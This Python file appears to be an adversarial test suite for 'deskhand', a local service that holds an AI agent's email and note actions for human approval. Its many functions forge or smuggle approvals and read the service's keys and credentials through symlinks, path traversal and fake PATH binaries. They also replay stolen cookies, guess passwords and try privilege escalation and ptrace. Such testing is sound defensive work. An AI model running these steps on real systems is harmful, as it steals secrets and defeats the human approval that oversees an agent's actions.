"""What a program with a shell on the person's account may try. It runs there, by itself: the standard library only.

python3 shell_ways.py NAME      with what it knows in the environment: CARD, DIGEST, FILE, VAULT, HOME_OF_DESK, PORT,
                                COOKIE, FORM_TOKEN, PID, DESKHAND, SOCKET

Each way does its worst and prints whatever it could read. Whether it got through is for root to see.
"""

import ctypes
import http.client
import json
import os
import random
import resource
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tarfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

E = os.environ
WAYS: dict[str, Callable[[], object]] = {}
SERVERS = ("email", "gmail", "obsidian", "tasks", "agentmail", "desk")


def way(act: Callable[[], object]) -> Callable[[], object]:
    name = act.__name__.replace("_", " ")
    for word in ("desk", "vault"):
        name = name.replace(f"{word}s ", f"{word}'s ")
    WAYS[name.replace("sockets queue", "socket's queue")] = act
    return act


def vault(*parts: str) -> Path:
    return Path(E["VAULT"], *parts)


def pending() -> Path:
    return vault("Pending_Approval", E["FILE"])


def show(*paths: Path | str) -> None:
    """Print what can be read there."""
    for path in map(Path, paths):
        try:
            if path.is_dir():
                for each in sorted(path.rglob("*")):
                    if each.is_file():
                        show(each)
            else:
                print(path.read_bytes()[:100_000])
        except OSError as error:
            print(f"{path}: {error}")


def deskhand(
    *arguments: str, given: str = "", seconds: float = 60, **variables: str
) -> str:
    try:
        done = subprocess.run(
            [E["DESKHAND"], *arguments],
            env={**E, **variables},
            input=given,
            capture_output=True,
            text=True,
            timeout=seconds,
            check=False,
        )
    except subprocess.TimeoutExpired:
        return "it went on"
    print(done.returncode, done.stdout[-5000:], done.stderr[-2000:])
    return done.stdout


def post(
    path: str,
    *,
    cookie: bool = True,
    token: bool = True,
    digest: str | None = None,
    **fields: str,
) -> int:
    given = {"digest": digest or E["DIGEST"], **fields}
    if token:
        given["form_token"] = E["FORM_TOKEN"]
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    if cookie:
        headers["Cookie"] = E["COOKIE"]
    return ask("POST", path, urlencode(given), headers)


def ask(
    method: str, path: str, body: str | None = None, headers: dict[str, str] | None = None
) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", int(E["PORT"]), timeout=30)
    try:
        connection.request(method, path, body, headers or {})
        answer = connection.getresponse()
        print(answer.status, answer.read(20_000))
    except (OSError, http.client.HTTPException) as error:
        print(error)
        return 0
    else:
        return answer.status
    finally:
        connection.close()


def sign_in(path: str) -> tuple[str, str]:
    """The cookie and the form token of a session that begins with this link."""
    connection = http.client.HTTPConnection("127.0.0.1", int(E["PORT"]), timeout=30)
    connection.request("GET", path)
    answer = connection.getresponse()
    answer.read()
    cookie = (answer.getheader("set-cookie") or "").partition(";")[0]
    connection.request("GET", "/checkup", headers={"Cookie": cookie})
    page = connection.getresponse().read().decode()
    connection.close()
    return cookie, page.partition('name="form_token" value="')[2][:64]


def card(what: str) -> str:
    return f"/approvals/{E['CARD']}/{what}"


class Server:
    """A server on stdio, as a client starts it."""

    def __init__(self, name: str, *flags: str, **variables: str) -> None:
        self.process = subprocess.Popen(
            [E["DESKHAND"], "mcp", name, *flags],
            env={**E, **variables},
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            text=True,
        )
        self.number = 0
        who = {"name": "shell", "version": "1"}
        self.call(
            "initialize",
            {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": who},
        )
        self.send({"jsonrpc": "2.0", "method": "notifications/initialized"})

    def send(self, line: dict[str, Any]) -> None:
        with suppress(BrokenPipeError):
            self.process.stdin.write(f"{json.dumps(line)}\n")  # type: ignore[union-attr]
            self.process.stdin.flush()  # type: ignore[union-attr]

    def call(self, method: str, parameters: dict[str, Any]) -> Any:
        self.number += 1
        self.send(
            {"jsonrpc": "2.0", "id": self.number, "method": method, "params": parameters}
        )
        for line in self.process.stdout:  # type: ignore[union-attr]
            answer = json.loads(line)
            if answer.get("id") == self.number:
                return answer
        return {}

    def tool(self, name: str, **arguments: Any) -> Any:
        answer = self.call("tools/call", {"name": name, "arguments": arguments})
        print(name, json.dumps(answer)[:3000])
        return answer

    def close(self) -> None:
        self.process.stdin.close()  # type: ignore[union-attr]
        self.process.wait(30)


def send_again() -> None:
    """Call the tool once more: what is approved leaves then."""
    server = Server("email")
    server.tool(
        "send_email", to="bob@example.org", subject=E["SUBJECT"], body="See you at ten.\n"
    )
    server.close()


# The vault.


@way
def move_the_sealed_request_to_approved() -> None:
    pending().rename(vault("Approved", E["FILE"]))
    send_again()


@way
def copy_the_sealed_request_under_another_name() -> None:
    shutil.copy(pending(), vault("Approved", "copy.md"))
    send_again()


@way
def hard_link_the_sealed_request_into_approved() -> None:
    os.link(pending(), vault("Approved", E["FILE"]))
    send_again()


@way
def symlink_the_sealed_request_into_approved() -> None:
    vault("Approved", E["FILE"]).symlink_to(pending())
    send_again()


@way
def edit_the_sealed_request_and_move_it() -> None:
    text = pending().read_text().replace("bob@example.org", "thief@example.net")
    vault("Approved", E["FILE"]).write_text(text)
    pending().unlink()
    send_again()


@way
def edit_the_sealed_request_in_place() -> None:
    pending().write_text(pending().read_text().replace("See you", "Pay me"))
    send_again()


@way
def set_status_approved_in_the_request() -> None:
    text = pending().read_text().replace("status: pending_approval", "status: approved")
    pending().write_text(text)
    pending().rename(vault("Approved", E["FILE"]))
    send_again()


@way
def write_an_approval_by_hand() -> None:
    text = (
        "---\ntype: email_send\nstatus: approved\nto: bob@example.org\n---\nFine with me.\n"
    )
    vault("Approved", "by hand.md").write_text(text)
    send_again()


@way
def write_an_approval_with_a_forged_seal() -> None:
    seal = f'seal: "{"0" * 64}"\n'
    head = f"---\ntype: email_send\nstatus: approved\nto: bob@example.org\naction_id: {E['CARD']}\n"
    vault("Approved", "forged.md").write_text(
        f'{head}digest: "{E["DIGEST"]}"\n{seal}---\nYes.\n'
    )
    send_again()


@way
def write_a_mail_into_approved() -> None:
    vault("Approved", "mail.md").write_text(
        "---\nto: thief@example.net\nsubject: Keys\n---\nHere they are.\n"
    )
    time.sleep(2)


@way
def write_a_draft_and_move_it_to_approved() -> None:
    text = "---\ntype: email_draft\ndraft_id: draft-mine\nto: thief@example.net\nsubject: Keys\n---\nHere.\n"
    vault("Drafts", "mine.md").write_text(text)
    time.sleep(1)
    vault("Drafts", "mine.md").rename(vault("Approved", "mine.md"))
    time.sleep(2)


@way
def bring_back_a_file_that_was_used() -> None:
    for old in vault("Done").glob("*.md"):
        shutil.copy(old, vault("Approved", old.name))
    send_again()


@way
def move_the_request_to_rejected() -> None:
    pending().rename(vault("Rejected", E["FILE"]))
    send_again()


@way
def delete_the_request_file() -> None:
    pending().unlink()
    send_again()


@way
def move_the_request_back_and_forth() -> None:
    places = [
        vault(name, E["FILE"]) for name in ("Pending_Approval", "Approved", "Rejected")
    ]
    here = places[0]
    for number in range(300):
        there = places[number % 3]
        with suppress(OSError):
            here.rename(there)
            here = there
    send_again()


@way
def swap_the_approval_for_a_link_while_it_is_read() -> None:
    end = time.monotonic() + 2
    target = vault("Approved", E["FILE"])
    caller = threading.Thread(target=send_again)
    caller.start()
    while time.monotonic() < end:
        with suppress(OSError):
            shutil.copy(pending(), target)
            target.unlink()
            target.symlink_to(Path(E["HOME_OF_DESK"], "config.toml"))
            target.unlink()
    caller.join()


@contextmanager
def linked_to_the_desks_home(place: Path) -> Iterator[None]:
    """For a while a link to the desk's home stands in the folder's place."""
    aside = place.with_name(f"{place.name}-aside")
    place.rename(aside)
    place.symlink_to(E["HOME_OF_DESK"])
    try:
        yield
    finally:
        place.unlink()
        aside.rename(place)


@way
def put_a_link_to_the_desks_home_in_place_of_approved() -> None:
    with linked_to_the_desks_home(vault("Approved")):
        send_again()


@way
def put_a_link_to_the_desks_home_in_place_of_logs() -> None:
    with linked_to_the_desks_home(vault("Logs")):
        send_again()


@way
def put_a_link_to_the_desks_home_in_place_of_the_vault() -> None:
    with linked_to_the_desks_home(vault()):
        server = Server("desk")
        server.tool("write_note", path="planted.md", frontmatter={}, body="planted")
        server.tool("search_notes", query="canary")
        server.tool("read_note", path="planted.md")
        server.close()


@way
def read_the_desks_files_through_links_in_the_vault() -> None:
    server = Server("obsidian")
    for name in (
        "token",
        "seal.key",
        "proof.key",
        "config.toml",
        "credentials.json",
        "gmail.secret",
    ):
        link = vault("Notes", f"{name}.md")
        link.symlink_to(Path(E["HOME_OF_DESK"], name))
        server.tool("read_note", path=f"Notes/{name}.md")
        server.tool("search_notes", query="canary")
        link.unlink()
    server.close()


@way
def read_the_desks_home_through_a_linked_folder() -> None:
    link = vault("Notes", "home")
    link.symlink_to(E["HOME_OF_DESK"])
    server = Server("obsidian")
    server.tool("list_notes", folder="Notes/home")
    server.tool("read_note", path="Notes/home/config.toml")
    server.close()
    link.unlink()


@way
def hard_link_the_desks_files_into_the_vault() -> None:
    for name in ("token", "seal.key", "credentials.json", "desk.db"):
        with suppress(OSError):
            os.link(Path(E["HOME_OF_DESK"], name), vault("Notes", f"{name}.md"))
    show(vault("Notes"))


@way
def read_with_a_path_out_of_the_vault() -> None:
    server = Server("obsidian")
    for path in (
        "../../../var/lib/deskhand/token",
        "/var/lib/deskhand/token",
        "Notes/../../.local/share/deskhand/token",
    ):
        server.tool("read_note", path=path)
    server.close()


@way
def write_an_approval_with_the_notes_tool() -> None:
    server = Server("obsidian")
    given = {"type": "email_send", "status": "approved", "to": "bob@example.org"}
    server.tool("write_note", path="Approved/tool.md", frontmatter=given, body="Yes.")
    server.tool("write_note", path="Notes/tool.md", frontmatter=given, body="Yes.")
    server.close()
    with suppress(OSError):
        vault("Notes", "tool.md").rename(vault("Approved", "tool.md"))
    send_again()


@way
def move_the_request_with_the_notes_tool() -> None:
    server = Server("obsidian")
    here = f"Pending_Approval/{E['FILE']}"
    server.tool("move_note", source=here, destination=f"Approved/{E['FILE']}")
    server.tool("move_note", path=here, to=f"Approved/{E['FILE']}")
    server.close()
    send_again()


@way
def put_pipes_and_sockets_among_the_approvals() -> None:
    os.mkfifo(vault("Approved", "pipe.md"))
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(str(vault("Approved", "socket.md")))
    vault("Approved", "folder.md").mkdir()
    send_again()
    for name in ("pipe.md", "socket.md"):
        vault("Approved", name).unlink()
    vault("Approved", "folder.md").rmdir()


@way
def bury_the_desk_in_files() -> None:
    for number in range(2000):
        vault("Approved", f"n{number}.md").write_text(
            "---\ntype: email_send\nstatus: approved\nto: x\n---\n"
        )
    send_again()
    for number in range(2000):
        vault("Approved", f"n{number}.md").unlink(missing_ok=True)


@way
def name_files_in_no_text() -> None:
    """They stay: every later way, and the person's yes, is tried beside them."""
    for folder in ("Approved", "Rejected", "Pending_Approval", "Drafts", "Needs_Action"):
        for name in (b"\xff\xfe.md", b"\xff.txt"):
            vault(folder, os.fsdecode(name)).write_text(
                "---\ntype: email_send\nstatus: approved\nto: x\n---\n"
            )
    send_again()


@way
def make_folders_too_deep_and_files_too_large() -> None:
    for place in (vault("huge.md"), vault("Approved", "huge.md")):
        place.touch()
        os.truncate(place, 1 << 40)
    outer = os.open(vault(), os.O_RDONLY)
    for _ in range(1200):
        for name in ("beside", "deep"):
            os.mkdir(name, dir_fd=outer)
        inner = os.open("deep", os.O_RDONLY, dir_fd=outer)
        os.close(outer)
        outer = inner
    os.close(outer)
    server = Server("obsidian")
    server.tool("search_notes", query="x")
    server.close()
    send_again()
    subprocess.run(["rm", "-r", vault("deep"), vault("beside")], check=False)


@way
def take_the_locks_of_the_vaults_folders() -> None:
    import fcntl

    held = [
        os.open(vault(name), os.O_RDONLY)
        for name in ("Approved", "Pending_Approval", "Rejected", "Done")
    ]
    for each in held:
        with suppress(OSError):
            fcntl.flock(each, fcntl.LOCK_EX | fcntl.LOCK_NB)
    pending().rename(vault("Approved", E["FILE"]))
    time.sleep(2)


@way
def close_the_vault_to_the_desk() -> None:
    subprocess.run(["setfacl", "-m", "u:deskhand:---", E["VAULT"]], check=False)
    send_again()
    subprocess.run(["setfacl", "-m", "u:deskhand:rwx", E["VAULT"]], check=False)


# The commands.


@way
def run_approve() -> None:
    deskhand("approve", E["CARD"])


@way
def run_approve_with_the_digest() -> None:
    deskhand("approve", E["CARD"], "--digest", E["DIGEST"], given="\n")


@way
def run_approve_with_guessed_passwords() -> None:
    for guess in ("password", "deskhand", "correct horse"):
        deskhand("approve", E["CARD"], given=f"{guess}\n")


@way
def run_edit_and_approve() -> None:
    deskhand("edit", E["CARD"], "--subject", "Mine", "--approve")


@way
def run_reject() -> None:
    deskhand("reject", E["CARD"])


@way
def run_respond() -> None:
    deskhand("respond", E["CARD"], "Do it my way.")


@way
def run_snooze() -> None:
    deskhand("snooze", E["CARD"], "3d")


@way
def run_password_set() -> None:
    deskhand("password", "set", given="a password of mine\n")
    post(card("approve"), password="a password of mine")


@way
def run_password_remove() -> None:
    deskhand("password", "remove")
    post(card("approve"))


@way
def run_link_and_sign_in_with_it() -> None:
    for word in deskhand("link").split():
        if "/enter/" in word:
            cookie, token = sign_in("/enter/" + word.rpartition("/")[2])
            form = {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"}
            ask(
                "POST",
                card("approve"),
                urlencode({"form_token": token, "digest": E["DIGEST"]}),
                form,
            )


@way
def run_link_end_all() -> None:
    deskhand("link", "--end-all")


@way
def run_token_add_and_use_it() -> None:
    deskhand("token", "add", "mine")
    deskhand("token", "create", "mine")


@way
def run_config_and_show_and_log() -> None:
    for words in (
        ["config", "show"],
        ["show", E["CARD"]],
        ["log"],
        ["status"],
        ["mail", "search", "in:inbox"],
    ):
        deskhand(*words)


@way
def run_backup_and_read_it() -> None:
    target = Path.home() / "stolen.tar"
    deskhand("backup", str(target))
    with suppress(OSError, tarfile.TarError), tarfile.open(target) as opened:
        for member in opened.getmembers():
            if inside := opened.extractfile(member):
                print(inside.read()[:100_000])
    target.unlink(missing_ok=True)


@way
def run_restore_of_a_desk_of_its_own() -> None:
    deskhand("restore", "/dev/null")
    deskhand("init", "--yes", "--vault", E["VAULT"], "--address", "me@example.com")


@way
def run_orchestrate() -> None:
    pending().rename(vault("Approved", E["FILE"]))
    deskhand("orchestrate", "--once", seconds=20)


@way
def run_doctor_fix() -> None:
    deskhand("doctor", "--fix")


@way
def run_service_stop_and_uninstall() -> None:
    for words in (
        ["stop"],
        ["uninstall", "--yes"],
        ["install", "--guarded", "--for", "root", "--yes"],
        ["logs"],
    ):
        deskhand("service", *words)


@way
def run_a_second_desk_on_the_guarded_home() -> None:
    deskhand(
        "up", "--no-browser", "--port", "0", seconds=8, DESKHAND_HOME=E["HOME_OF_DESK"]
    )


@way
def run_a_server_alone() -> None:
    server = Server("email", "--alone")
    server.tool(
        "send_email", to="bob@example.org", subject=E["SUBJECT"], body="See you at ten.\n"
    )
    server.close()


@way
def run_a_server_over_http() -> None:
    deskhand("mcp", "desk", "--http", "--port", "0", seconds=5)


@way
def run_the_agents_commands() -> None:
    for words in (["send", "person", "hello"], ["receive"], ["status"], ["recipients"]):
        deskhand("agentmail", *words)


# Its own configuration, environment, path and clone.


@way
def ask_for_a_weaker_proof_in_the_environment() -> None:
    pending().rename(vault("Approved", E["FILE"]))
    deskhand("approve", E["CARD"], DESKHAND_PROOF="vault")
    server = Server("email", DESKHAND_PROOF="vault", DESKHAND_APPROVALS="any")
    server.tool(
        "send_email", to="bob@example.org", subject=E["SUBJECT"], body="See you at ten.\n"
    )
    server.close()


@way
def ask_for_a_weaker_proof_in_its_own_config() -> None:
    own = Path.home() / ".local" / "share" / "deskhand"
    own.mkdir(parents=True, exist_ok=True)
    kept = (own / "config.toml").read_text() if (own / "config.toml").exists() else None
    (own / "config.toml").write_text(
        f'vault_path = "{E["VAULT"]}"\nproof = "vault"\n[mail]\naddress = "me@example.com"\n'
    )
    deskhand("approve", E["CARD"])
    send_again()
    if kept is None:
        shutil.rmtree(own)
    else:
        (own / "config.toml").write_text(kept)


@way
def name_the_guarded_home_in_the_environment() -> None:
    deskhand("approve", E["CARD"], DESKHAND_HOME=E["HOME_OF_DESK"])
    deskhand("approvals", DESKHAND_HOME=E["HOME_OF_DESK"])


@way
def put_false_programs_on_the_path() -> None:
    own = Path.home() / "bin"
    own.mkdir(exist_ok=True)
    for name in ("setpriv", "python3", "tar", "setfacl", "systemctl", "tmux", "git"):
        (own / name).write_text(f"#!/bin/sh\ncat {E['HOME_OF_DESK']}/* > {own}/stolen\n")
        (own / name).chmod(0o755)
    deskhand("approve", E["CARD"], PATH=f"{own}:{E['PATH']}")
    send_again()
    show(own / "stolen")
    shutil.rmtree(own)


@way
def bring_its_own_python_modules() -> None:
    own = Path.home() / "modules"
    own.mkdir(exist_ok=True)
    (own / "sitecustomize.py").write_text(
        "import os\nprint(os.listdir('/var/lib/deskhand'))\n"
    )
    deskhand(
        "approve",
        E["CARD"],
        PYTHONPATH=str(own),
        PYTHONSTARTUP=str(own / "sitecustomize.py"),
    )
    shutil.rmtree(own)


@way
def preload_a_library() -> None:
    deskhand(
        "approve",
        E["CARD"],
        LD_PRELOAD=str(Path.home() / "evil.so"),
        LD_LIBRARY_PATH=str(Path.home()),
    )


@way
def change_the_program_itself() -> None:
    for place in (
        "/opt/deskhand",
        "/usr/local/bin/deskhand",
        "/etc/systemd/system/deskhand.service",
        "/usr/bin/python3",
    ):
        for target in [Path(place), *list(Path(place).rglob("proofs.py"))[:1]]:
            try:
                if target.is_dir():
                    (target / "evil.py").write_text("")
                else:
                    with target.open("a") as opened:
                        opened.write("\n")
            except OSError as error:
                print(target, error)


@way
def replace_the_command_in_its_own_folders() -> None:
    own = Path.home() / ".local" / "bin"
    own.mkdir(parents=True, exist_ok=True)
    (own / "deskhand").write_text("#!/bin/sh\nexit 0\n")
    (own / "deskhand").chmod(0o755)
    subprocess.run([own / "deskhand", "approve", E["CARD"]], check=False)
    (own / "deskhand").unlink()


@way
def stand_in_for_the_desk_with_a_socket_of_its_own() -> None:
    place = str(Path.home() / "mine.sock")
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(place)
        made.listen()
        deskhand("mcp", "email", seconds=3, DESKHAND_SOCKET=place)
    Path(place).unlink()


# Files.


@way
def read_every_file_of_the_desk() -> None:
    show(E["HOME_OF_DESK"])
    for name in (
        "token",
        "seal.key",
        "proof.key",
        "config.toml",
        "credentials.json",
        "desk.db",
        "mail.db",
        "desk.log",
    ):
        show(Path(E["HOME_OF_DESK"], name))


@way
def read_the_backups_and_the_logs_of_the_machine() -> None:
    show("/var/backups", "/run/deskhand", "/var/log/syslog", "/var/log/auth.log")
    print(
        subprocess.run(
            ["journalctl", "-u", "deskhand"], capture_output=True, text=True, check=False
        ).stdout
    )


@way
def read_what_the_kernel_tells_of_the_desk() -> None:
    for name in ("environ", "maps", "mem", "cwd", "root", "fd", "io", "stack", "auxv"):
        show(f"/proc/{E['PID']}/{name}")
    for number in range(40):
        show(f"/proc/{E['PID']}/fd/{number}")


@way
def change_the_database() -> None:
    database = sqlite3.connect(Path(E["HOME_OF_DESK"], "desk.db"), timeout=10)
    columns = "request_id, revision, word, digest, proof, said_by, at"
    yes = f"INSERT INTO answers ({columns}) VALUES (?, 1, 'approved', ?, ?, ?, 1)"
    database.execute(yes, (E["CARD"], E["DIGEST"], "password", "person"))
    database.execute(
        "UPDATE requests SET state = 'approved', due = 1 WHERE id = ?", (E["CARD"],)
    )
    database.commit()


@way
def put_another_database_in_its_place() -> None:
    Path(E["HOME_OF_DESK"], "desk.db.new").write_bytes(b"")
    Path(E["HOME_OF_DESK"], "proof.key").write_text("a key of mine, of mine")


@way
def search_the_whole_disk_for_credentials() -> None:
    command = [
        "grep",
        "-rsIl",
        "--exclude-dir=proc",
        "--exclude-dir=sys",
        "canary-of-the",
        "/var/lib",
        "/var/backups",
    ]
    found = subprocess.run(
        [*command, "/run", "/tmp", str(Path.home())],
        capture_output=True,
        text=True,
        check=False,
    )
    for name in found.stdout.split():
        show(name)


# The socket.


def connect() -> socket.socket:
    door = socket.socket(socket.AF_UNIX)
    door.settimeout(10)
    door.connect(E["SOCKET"])
    return door


def greet(*fields: str) -> bytes:
    with connect() as door:
        door.recv(100_000)
        door.sendall(b"".join(each.encode() + b"\0" for each in fields) + b"\n")
        answer = door.recv(100_000)
        print(answer)
        return answer


@way
def ask_the_socket_for_servers_that_are_none() -> None:
    for name in ("page", "admin", "approve", "../email", "", "desk\0approve"):
        with suppress(OSError):
            greet(name, "", str(Path.home()))


@way
def say_nonsense_to_the_socket() -> None:
    for text in (
        b"\0\n",
        b"\0" * 5000 + b"\n",
        random.randbytes(50_000),
        b"a" * 1_000_000 + b"\0\n",
        b"\xff\0\xfe\0\n",
    ):
        with suppress(OSError), connect() as door:
            door.sendall(text)
            print(door.recv(1000))


@way
def guess_secrets_by_what_the_socket_refuses() -> None:
    token = "DESKHAND_NOTIFY=canary"
    for guess in (
        token,
        "SERVICE_AUTH_TOKEN=x",
        "DESKHAND_IMAP_URL=imaps://me:guess@host",
        "DESKHAND_PROOF=vault",
    ):
        with suppress(OSError):
            greet("email", "", str(Path.home()), guess)


@way
def take_a_seat_in_the_desks_own_folders() -> None:
    for folder in (E["HOME_OF_DESK"], "/var/lib", "/etc", E["VAULT"]):
        with suppress(OSError):
            greet("agentmail", "", folder, "DESKHAND_AGENT=mine")
            greet("desk", "", folder, f"TMUX={Path.home()}/evil.sock,1,0", "TMUX_PANE=%0")


@way
def take_the_place_of_the_socket() -> None:
    Path(E["SOCKET"]).unlink()
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(E["SOCKET"])


@way
def fill_the_sockets_queue() -> None:
    held = []
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(4096, hard), hard))
    for _ in range(1500):
        try:
            door = socket.socket(socket.AF_UNIX)
            door.setblocking(False)
            door.connect(E["SOCKET"])
            held.append(door)
        except OSError:
            continue
    ask("GET", "/health")
    time.sleep(2)
    ask("GET", "/health")


@way
def stop_reading_in_the_middle_of_many_answers() -> None:
    servers = [Server("desk") for _ in range(10)]
    for server in servers:
        for number in range(200):
            server.send(
                {"jsonrpc": "2.0", "id": number + 10, "method": "tools/list", "params": {}}
            )
    time.sleep(2)
    ask("GET", "/health")
    for server in servers:
        server.process.kill()
        server.process.wait()


def call_every_tool(name: str) -> None:
    known = {
        "id": E["CARD"],
        "action_id": E["CARD"],
        "to": "bob@example.org",
        "subject": E["SUBJECT"],
    }
    known |= {
        "body": "See you at ten.\n",
        "path": f"Approved/{E['FILE']}",
        "digest": E["DIGEST"],
        "status": "approved",
    }
    server = Server(name, DESKHAND_AGENT="shell")
    listed = server.call("tools/list", {}).get("result", {}).get("tools", [])
    print(len(listed), "tools")
    for tool in listed:
        schema = tool["inputSchema"].get("properties", {})
        text = {
            key: known.get(key, E["CARD"])
            for key, each in schema.items()
            if "string" in json.dumps(each)
        }
        server.tool(tool["name"], **text)
        server.tool(
            tool["name"],
            **text,
            approved=True,
            human_approved=True,
            proof="password",
            password="guess",
        )
    server.close()


def call_all_of(name: str) -> None:
    def act() -> None:
        call_every_tool(name)

    WAYS[f"call every tool of the server {name}"] = act


for each_server in SERVERS:
    call_all_of(each_server)


# The page.


@way
def approve_with_the_stolen_cookie() -> None:
    post(card("approve"))


@way
def reject_with_the_stolen_cookie() -> None:
    post(card("reject"), reason="no")


@way
def respond_with_the_stolen_cookie() -> None:
    post(card("respond"), words="My way.")


@way
def snooze_with_the_stolen_cookie() -> None:
    post(card("snooze"), until="week")


@way
def edit_with_the_stolen_cookie() -> None:
    post(card("edit"), to="thief@example.net", subject="Keys", body="Here.")


@way
def approve_together_with_the_stolen_cookie() -> None:
    post("/approvals/batch", card=f"{E['CARD']}:{E['DIGEST']}")


@way
def guess_the_password_with_the_stolen_cookie() -> None:
    for number in range(40):
        post(card("approve"), password=f"guess number {number}")


@way
def guess_the_password_many_times_at_once() -> None:
    threads = [
        threading.Thread(target=post, args=[card("approve")], kwargs={"password": f"g{n}"})
        for n in range(40)
    ]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


@way
def send_empty_and_odd_passwords() -> None:
    for password in ("", " ", "\0", "a" * 100_000, "null", "true", "password[]", "\ud7ff"):
        post(card("approve"), password=password)
    post(card("approve"), **{"password[]": "x", "Password": "x", "proof": "password"})


@way
def send_the_form_without_or_with_another_token() -> None:
    post(card("approve"), token=False, password="guess guess guess")
    post(card("approve"), token=False, form_token="0" * 64)
    post(card("approve"), cookie=False)


@way
def replay_the_form_of_an_answer_that_counted() -> None:
    post(card("approve"), digest=E["OLD_DIGEST"])
    post(f"/approvals/{E['OLD_CARD']}/approve", digest=E["OLD_DIGEST"])


@way
def alter_the_digest_of_the_form() -> None:
    for digest in ("0" * 64, "", E["DIGEST"][:-1], E["DIGEST"].upper()):
        post(card("approve"), digest=digest)


@way
def answer_by_other_methods_and_addresses() -> None:
    headers = {"Cookie": E["COOKIE"], "X-HTTP-Method-Override": "POST"}
    query = urlencode({"form_token": E["FORM_TOKEN"], "digest": E["DIGEST"]})
    for method in ("GET", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"):
        ask(method, f"{card('approve')}?{query}", None, headers)
    ask("GET", f"/enter/../approvals/{E['CARD']}/approve?{query}", None, headers)


@way
def claim_to_be_another_host_or_origin() -> None:
    body = urlencode({"form_token": E["FORM_TOKEN"], "digest": E["DIGEST"]})
    form = {"Cookie": E["COOKIE"], "Content-Type": "application/x-www-form-urlencoded"}
    for more in (
        {"Host": "deskhand"},
        {"X-Forwarded-User": "person"},
        {"Authorization": "Bearer x"},
        {"X-Real-Uid": "0"},
    ):
        ask("POST", card("approve"), body, form | more)


@way
def sign_in_by_guessing() -> None:
    for number in range(10):
        body = urlencode({"password": f"guess number {number}"})
        ask("POST", "/enter", body, {"Content-Type": "application/x-www-form-urlencoded"})
        ask("GET", f"/enter/{'a' * 31}{number}")


@way
def use_every_form_of_the_page() -> None:
    for path in (
        "/checkup/sessions/end-others",
        "/checkup/tokens/revoke",
        "/agents/send",
        "/tasks/add",
        "/config",
    ):
        post(path, password="a password of mine")
    for path in ("/", "/checkup", "/timeline", "/mail", "/notes", "/agents"):
        ask("GET", path, None, {"Cookie": E["COOKIE"]})


@way
def come_to_the_endpoints_without_a_token() -> None:
    call = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}})
    for path in ("/mcp", "/email/mcp", "/gmail/mcp", "/desk/mcp", "/api/tasks"):
        ask("POST", path, call, {"Content-Type": "application/json", "Cookie": E["COOKIE"]})


@way
def hold_every_connection_of_the_page() -> None:
    held = []
    for _ in range(900):
        with suppress(OSError):
            held.append(socket.create_connection(("127.0.0.1", int(E["PORT"])), timeout=1))
    ask("GET", "/health")


# Processes.


@way
def send_signals() -> None:
    for each in (
        signal.SIGTERM,
        signal.SIGKILL,
        signal.SIGSTOP,
        signal.SIGHUP,
        signal.SIGINT,
        signal.SIGUSR1,
    ):
        try:
            os.kill(int(E["PID"]), each)
        except OSError as error:
            print(error)


@way
def attach_with_ptrace() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    print(libc.ptrace(16, int(E["PID"]), 0, 0), os.strerror(ctypes.get_errno()))
    print(libc.ptrace(0x4206, int(E["PID"]), 0, 0), os.strerror(ctypes.get_errno()))


@way
def write_into_its_memory() -> None:
    with Path(f"/proc/{E['PID']}/mem").open("r+b") as opened:
        opened.read(1)


@way
def change_its_limits_and_its_priority() -> None:
    for act in (
        lambda: os.setpriority(os.PRIO_PROCESS, int(E["PID"]), 19),
        lambda: resource.prlimit(int(E["PID"]), resource.RLIMIT_NOFILE, (1, 1)),
        lambda: Path(f"/proc/{E['PID']}/oom_score_adj").write_text("1000"),
    ):
        try:
            act()
        except (OSError, ValueError) as error:
            print(error)


@way
def become_the_desks_user_or_root() -> None:
    for command in (
        ["su", "deskhand", "-s", "/bin/sh", "-c", f"cat {E['HOME_OF_DESK']}/config.toml"],
        ["sudo", "-n", "-u", "deskhand", "cat", f"{E['HOME_OF_DESK']}/config.toml"],
        ["sudo", "-n", "deskhand", "approve", E["CARD"]],
        [
            "setpriv",
            "--reuid",
            "deskhand",
            "--clear-groups",
            "cat",
            f"{E['HOME_OF_DESK']}/config.toml",
        ],
        ["unshare", "-r", "cat", f"{E['HOME_OF_DESK']}/config.toml"],
        ["pkexec", "cat", f"{E['HOME_OF_DESK']}/config.toml"],
    ):
        with suppress(FileNotFoundError):
            done = subprocess.run(
                command, input="", capture_output=True, text=True, timeout=20, check=False
            )
            print(done.stdout, done.stderr)


@way
def look_like_root_in_a_namespace_of_its_own() -> None:
    inner = f"id; {E['DESKHAND']} approve {E['CARD']}; {E['DESKHAND']} service stop; cat {E['HOME_OF_DESK']}/*"
    with suppress(FileNotFoundError):
        done = subprocess.run(
            ["unshare", "-rm", "sh", "-c", inner],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        print(done.stdout[-3000:], done.stderr[-2000:])


if __name__ == "__main__":
    WAYS[sys.argv[1]]()
